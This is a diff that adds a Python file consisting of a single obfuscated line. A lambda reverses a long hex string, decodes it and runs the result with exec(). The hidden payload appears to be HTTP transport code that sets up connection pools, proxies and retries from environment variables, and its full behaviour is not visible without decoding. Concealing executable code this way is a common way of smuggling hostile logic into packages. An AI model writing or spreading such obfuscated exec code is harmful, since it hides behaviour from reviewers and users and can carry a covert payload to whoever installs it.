@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a092824727f60737e616274502d3025636e6164737e6944727f60737e6162745a0a09282271656c636e237e6f69637375637f5e266c65637020202020202020202020202a092825637f6c636e2e6f6963737563702020202020202020202020202020202a0a39282375657c61667e237e6f69637375637f5e266c6563702e69602e6f696373756370227f666020202020202020202020202a0a3b636f6c6f5e266c6563702864796770202020202020202a0a39266c65637825637f6c6360266564602020202a0a092227756e602d7d5723756373796d672b5972747e656b702c246563757562702d7d5723747968672b5972747e656b702c2374737565717562702d7d572374737565717562772b5972747e656b702a3d74737f686b7020222668247e6962707020202020202020202020202a0a3928237d6564796e2374716473702e69602972747e65602c24737f6860227f6660202020202020202a09222a3374716473702c6f6f60702e6f696473656e6e6f6360205454584228247e69627070202020202020202a0e62757475627020202020202020202020202a09222e2564616d6023747375657175627020545458402f6e4228247e6962707020202020202020202020202a0a337471647370247f6e60266960202020202020202a092823747164737f5c6f6f607e266c6563702d30237471647370202020202020202a0a39266c65637823747164737f5c6f6f607f547e69627070266564602020202a0a0928247f686370716e637e23747164737e266c6563702e627574756270202020202020202a0a34736964602e3d2029266c65637823747164737f5c6f6f6070266564602020202a0a0923776271677b6a2a202c2c6275702c2224535f405228247375657175627e266c6563702e627574756270202020202020202a0a35637e6f607375625e2374737565717562702e3d202923776271677b6a2a202c227473702a3c6275702c266c65637824737f6070266564602020202a0a0923776271677b6a2a202c2c6275702c222455474228247375657175627e266c6563702e627574756270202020202020202a0a35637e6f607375625e2374737565717562702e3d202923776271677b6a2a202c227473702a3c6275702c266c65637824756760266564602020202a0a0923776271677b6a2a202c2c6275702c246f6864756d68247375657175627e292c627578227f666f5e6f69637375637e266c6563702e627574756270202020202020202a0924757f656d69647e266c6563702c2224757f656d69647228247c65716665646475637e23776271677b60202020202020202a0a35637e6f607375625e2374737565717562702e3d202923776271677b6a2a202c227473702a3c6275702c227473702a346f6864756d602c266c6563782473756571756270266564602020202a0a0e6f6963737563702e627574756270202020202020202a0e6f6963737563702d302d54737f686b537e6f69637375637f5e266c656370202020202020202020202020202020202020202a09282e6f69637375637f57756e6f5e266c6563702d302e6f696373756370202020202020202020202020202020202020202a0a356e6f6e402379602e6f6963737563702669602020202020202020202020202020202a0924737f68682475676e237e6f69637375637f5e266c6563702d302e6f6963737563702020202020202020202020202020202a0a3b636f6c6f5e266c656370286479677020202020202020202020202a0a356e6f6e402379602e6f696373756370266960202020202020202a0924737f68682475676e237e6f69637375637f5e266c6563702d302e6f696373756370202020202020202a036f6c64756e6e292c62757824796c60737c6275702d3024737f6860202020202020202a0a3e6f69637375635e2374737565717562702e3d2029227473702a3c6275702c266c656378227f666f5e6f696373756370266564602020202a0a0e6f6963737563702e627574756270202020202020202a0922756470716461602c222f2f2a307474786228247e657f6d6e2e6f696373756370202020202020202a0922756470716461602c222f2f2a33707474786228247e657f6d6e2e6f696373756370202020202020202a0920202020202020202a0c292829727475627f546c6965726f5e266c65637d337569627475627f58716d6020202020202020202020202a0c256a796378716d6f5c6f6f607e266c65637d356a796378716d6f5c6f6f607020202020202020202020202a0c237e6f696473656e6e6f636f5c6f6f607e266c65637d337e6f696473656e6e6f636f5c6f6f607020202020202020202020202a0c23747164737e266c65637020202020202020202020202a0822756470716461476e69647e657f634f502d302275647071646160202020202020202a09292d5b5d337e69616d6f646f5465677f6c6c61682973696c6f6055696b6f6f63447c6571666564482973696c6f607f5475637e2375696b6f6f636e2e6f696373756370202020202020202a0e24696460237c6c6163602374737565717562702c6566756c6d256c65746f6d602373756c65647164737025686470256b696c60256671686562402320202020202020202a09282e6f69637375635e2374737565717562702d302e6f696373756370202020202020202a0a3e6f69637375635e2374737565717562702e3d2029266c6563782e6f69637375637f57756e6f50266564602020202a0a0920202020202020202a0c25637c61664d3375747164737f5e6f6f55637961627020202020202020202020202a0c23544f4844554d4f5445475f4c4c414f545c45514645444e29727475625d33746f6864756d6f5465677f6c6c616020202020202020202020202a0c29243035302c233035302c223035382d3473796c6563627f666f5375747164737020202020202020202020202a0c227f647361666f56666f6b6361626e266c65637d327f647361666f56666f6b6361626020202020202020202020202a0c203d327568647f6020202020202020202020202a0c237569627475627f58716d6e266c65637d3375747164737020202020202020202020202a0c203d346165627020202020202020202020202a0c237569627475627f58716d6e266c65637d3473656e6e6f636020202020202020202020202a0c256e6f6e4d3c61647f647020202020202020202020202a082972747562502e627574756270202020202020202a0e246569716c60756270256260227566756e602473757d602374535f4050247e656d656c64747563502e23746f6864756d60247e65647f607d65646960227f6660227f602320202020202020202a0923727f627275602473656e6e6f63682022756672756370256864702465686361656270227566756e602473756571756270256864702e65686770297274756270297c6e6f402320202020202020202a0a3972747562502e3d2029266c65637829727475627f546c6965726f50266564602020202a0a05657274502d302f54656a796c616964796e696f5e266c65637020202020202020202020202a0a09282b636f6c4e276e69646165627864702d302b636f6c6f5e266c65637020202020202020202020202a0d7b702d30237e6f69637375637f5e266c65637020202020202020202020202a092823747164735c6f6f60502d3023747164737e266c65637020202020202020202020202a0a04757f656d6964702d3024757f656d69647e266c65637020202020202020202020202a027f647361666f56666f6b636162602d30227f647361666f56666f6b6361626e266c65637020202020202020202020202a037569627475627f58716d602d30237569627475627f58716d6e266c65637020202020202020202020202a056a796378716d6f5c6f6f60702d30256a796378716d6f5c6f6f607e266c65637020202020202020202020202a037e6f696473656e6e6f636f5c6f6f60702d30237e6f696473656e6e6f636f5c6f6f607e266c65637020202020202020202020202a0a3f54656a796c616964796e696f5e266c656370247f6e60266960202020202020202a0a39202020202a0c24555f454d49445f50545458402d3024716f6c66602a34757f656d696470202020202020202a0c225f445341464f56464f4b4341424f50545458402d3024716f6c66602a327f647361666f56666f6b63616260202020202020202a0c235549425455425f58514d4f50545458402d30247e69602a337569627475627f58716d60202020202020202a0c254a594358514d4f5c4f4f405f50545458402d30247e69602a356a796378716d6f5c6f6f6070202020202020202a0c235e4f494453454e4e4f434f5c4f4f405f50545458402d30247e69602a337e6f696473656e6e6f636f5c6f6f6070202020202020202a0c266c656370202020202020202a082f5f54796e696f5f50266564602020202a0a0f55636e6164737e696f5e237c63602e627574756270202020202020202a09237c63682f5f57756e6f5f5e29282275607573702d302f55636e6164737e696f5e237c636020202020202020202020202a0a3f55636e6164737e696f5e237c6360247f6e60266960202020202020202a0a3923776271677b6a2a202c237762716a202c237c63682f5f57756e6f5f50266564602020202a0a05637c6166402d302f54656a796c616964796e696f502020202a056e6f6e402d302f55636e6164737e696f502020202a022222202020202a0e2c6c6163602275607025636e6f602e616864702020202a027568647162702e6f696473656e6e6f63602275607025636e6f602469616070237960294051402d616562747370757025686470246e616025636966727563702f6470797273602020202a056864702f6470256b616863746e616860235c4450256864702f63702c297c6473656279646024737f607e23747375657175627f247375657175627e2374737565717562702020202a076e696c6c616360266f6024616564737e696025636e6164737e6944727f60737e616274502867657f627864702f676023756c65746f6d60247e65696c63602c6c61402020202a0a0e24737f6860227560702e6f6963737563702566796c616d2075656b60256e6f60286479677024727f60737e616274702054545840246562716863522222202020202a0a34727f60737e616274502373716c636a0a0a09282271656c636e227567616e616d6c6f6f607e266c656370202020202020202a0e2373716c6360246c6f60256864702075656b60292563696473616270702e6960256e6f6e6820256469627275667f602568647025627f666562602465647165627360237c6f6f60502320202020202020202a0d70202020202020202a0c2923747164737f5e266c6563702c2c6f6f605e6f696473656e6e6f634350545458482c6f6f607f576e69647e657f636f502a322370747478622020202020202020202020202a0c2923747164737f5e266c6563702c2c6f6f605e6f696473656e6e6f6340545458482c6f6f607f576e69647e657f636f502a3220747478622020202020202020202020202a0b702d30256d656863637f59726f53756373716c636f5c6f6f607e227567616e616d6c6f6f607e266c656370202020202020202a0923776271677b6a2a202c237762716a28227567616e616d6c6f6f607f54796e696e2928227560757370202020202020202a0a3923776271677b6a2a202c237762716a202c266c656378227567616e616d6c6f6f607f54796e6960266564602020202a0a0923776271677b6a2a282f5f54796e696f5f5e2928227560757370202020202020202a0374716473702d3023747164737f5e266c656370202020202020202a0a3923776271677b6a2a202c23747164735c6f6f60502a3374716473702c266c6563782f5f54796e696f5f50266564602020202a0a3922756470716461405454584822756470716461476e69647e657f634f502373716c636a0a0a0c6f6f60576e69647e657f63402e6275747562702020202a022d7f5f556d616e6f5f5e256371626b776e69647e657f634226602d302f5f556d616e6f5f5e2c6f6f60576e69647e657f63402020202a022d7f5f556d616e6f5f5e237c634e6f696473656e6e6f634e256371626b776e69647e657f634226602d302f5f556d616e6f5f5e2e6f696473656e6e6f63476e69647e657f63402020202a0a0e6e6f63602e62757475627020202020202020202020202a09756b6f53747164737e266c6563702d3029756b6f53747164737e2e6e6f636020202020202020202020202a09282e6e6f636f57756e6f5e29282275607573702d302e6e6f636020202020202020202020202a0a39266c6563782e6e6f636f57756e6f5026656460202020202020202a0a0924757f656d69647d34757f656d6964782e6e6f636f5475676f5e29282275607573702e62757475627020202020202020202020202a0929756b6f53747164737e266c65637824757f6b636568636f54627f6365627e23747164737020202020202020202020202a0a39256e6f6e4d34757f656d6964702c266c6563782e6e6f636f5475676f5026656460202020202020202a0a022d74727f607e266c65637b7a3d74737f686e266c65637b7226602e62757475627020202020202020202020202a0a327473702e3d2029266c65637829756b6f53747164737026656460202020202020202a09747275607f62707040202020202020202a0a0e6f696473656e6e6f63476e69647e657f63402d30237c634e6f696473656e6e6f6340202020202020202a0a3925637162682c6f6f60576e69647e657f63402373716c63602020202a0a09282473656e6e6f636e29282275607573702e62757475627020202020202020202020202a0929756b6f53747164737e266c6563782373796d6f54627f6365627e23747164737020202020202020202020202a0e29282e6e6f636f57756e6f5023772c6f6f6070256864702867657f6278647023756f6760227566756e602863696867702c2473656a626f60256d616370232020202020202020202020202a056864702e6f6024656e65607f6562702379602e6f696473656e6e6f636024656c6f6f6070246560707f62746021602e65686770237e6572702f637c6140232020202020202020202020202a0a39266c6563782473656e6e6f636026656460202020202020202a0a056e6f6e402d3029756b6f537471647370202020202020202a0a39237c634e6f696473656e6e6f634e25637162682e6f696473656e6e6f63476e69647e657f63402373716c63602020202a0a3923747164735c6f6f60502a3374716473702c25637162682c6f6f607f576e69647e657f636f502665646a0a0a09282271656c636e2374737f686f5e266c65637020202020202020202020202a0a3b636f6c6f5e266c6563702864796770202020202020202a0a39266c656378247563756270266564602020202a0a047c65737562702e62757475627020202020202020202020202a0d702020202020202020202020202020202a0c23756373796d602a3223756373796d6220202020202020202020202020202020202020202a0c23756373796d602d202d522374737565717562722b5972747e65602a32237479686220202020202020202020202020202020202020202a0c2d522374737565717562722b5972747e65602a3223747375657175627220202020202020202020202020202020202020202a0b702d302d54737f686b547c65737562702020202020202020202020202020202a092d522374737565717562722b5972747e65602c2d5223756373796d622b5972747e65682e696d602d3023756373796d602020202020202020202020202020202a0a3928237d6564796e2374737f686f5e266c6563702e69602972747e65602c24737f6860227f666020202020202020202020202a0d7b702d30247c657375627020202020202020202020202a0a3b636f6c6f5e266c6563702864796770202020202020202a0a34736964602e3d2029266c656378247f686370716e6370266564602020202a0a01302d3b202d5223756373796d622b5924737f68682972747e656f5e266c65637020202020202020202020202a0a3b636f6c6f5e266c6563702864796770202020202020202a0a39227473702a34737f68602c266c6563782373796d6f54627f63656270266564602020202a0a01302d3b202d522374737565717562722b5924737f68682972747e656f5e266c65637020202020202020202020202a0a3b636f6c6f5e266c6563702864796770202020202020202a0a39227473702a34737f68602c266c65637824757f6b636568636f54627f63656270266564602020202a0a092d70302a3223756373796d62202c20302a322374737565717562722b702c24737f6868247c65716665646475637e2374737f686f5e266c6563702e627574756270202020202020202a0a34736964602e3d2029227473702a34737f68602c266c6563782972747e656f50266564602020202a0a0d7d747e69602a3223756373796d62202c247e69602a322374737565717562722b702a3224727f607a34737f68622b702a3374737f686f50266f6024716d627f66402320202020202020202a0d7b702d302374737f686f5e266c656370202020202020202a09282b636f6c4e276e69646165627864702d302b636f6c6f5e266c656370202020202020202a0a39266c6563782f5f54796e696f5f50266564602020202a0a022222202020202a0e247968602160237960246e61602e6f696473656e6e6f6360235c445f2053445024656863796c6261647375602e61602375637575627024757f6b6365686360227568647f602972756675402020202a0e2563616c60702e6960237e65607f6562702332696c6c627570246e61602465637f6c63602461686022756672756370256864702471686470256e6f6024656c6f6f60702020202a0160227f602e6f696473656e6e6f636027756e60246e61627260216023796024796022756864756867702c2373796d6021602379602473656e6e6f6360205344502972756675402020202a0a0e24727f607a34737f6860227560702374757f6b63656863602e6f696473656e6e6f636024656c6f6f607023747e657f63422222202020202a0a33747164735c6f6f60502373716c636a0a0a092a0c24555f454d49445f50545458402020202a0c225f445341464f56464f4b4341424f50545458402020202a0c235549425455425f58514d4f50545458402020202a0c254a594358514d4f5c4f4f405f50545458402020202a0c235e4f494453454e4e4f434f5c4f4f405f50545458402020202a082024727f607d69602769666e6f636e207071602d6f62766a0a09727475625024727f607d696029727475627e2c6964757e2332696c6c6275702d6f62766a0c6f6f605e6f696473656e6e6f634350545458402c2c6f6f605e6f696473656e6e6f63405454584024727f607d69602c6f6f607e6f696473656e6e6f636e2332696c6c6275702d6f62766a02756470716461405454584024727f607d696023727564707164616e2374737565717562702d6f62766a03747375657175627024727f607d696a0a04796c60737c62757024727f607d696025637271607e22696c6c6275702d6f62766a0973696c6f6055696b6f6f63447c65716665644024727f607d696022716a65696b6f6f636e20747478602d6f62766a076e696461656278647024727f607d696" ));